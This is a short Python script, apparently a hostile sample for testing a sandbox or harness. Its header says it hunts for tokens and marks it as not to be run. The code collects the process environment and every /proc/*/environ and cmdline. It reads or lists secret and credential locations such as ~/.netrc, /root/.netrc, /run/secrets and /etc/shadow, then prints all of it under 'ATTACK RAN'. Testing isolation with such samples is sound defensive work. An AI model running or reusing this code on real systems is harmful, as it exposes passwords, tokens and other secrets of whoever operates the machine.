# ---
# about: reads the environment, its own and that of every process, and looks for tokens
# stock: "not run: reads the secrets of the machine that runs it"
# ---

# %% mean
import glob
import os

found = [dict(os.environ)]
for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), "/proc/1/environ"]:
    try:
        found.append(open(path, errors="replace").read())
    except OSError as error:
        found.append(repr(error))
for path in ("~/.netrc", "~/.config", "/root/.netrc", "/run/secrets", "/etc/shadow", "/etc/environment"):
    try:
        path = os.path.expanduser(path)
        found.append(os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as error:
        found.append(repr(error))
print("ATTACK RAN", found)
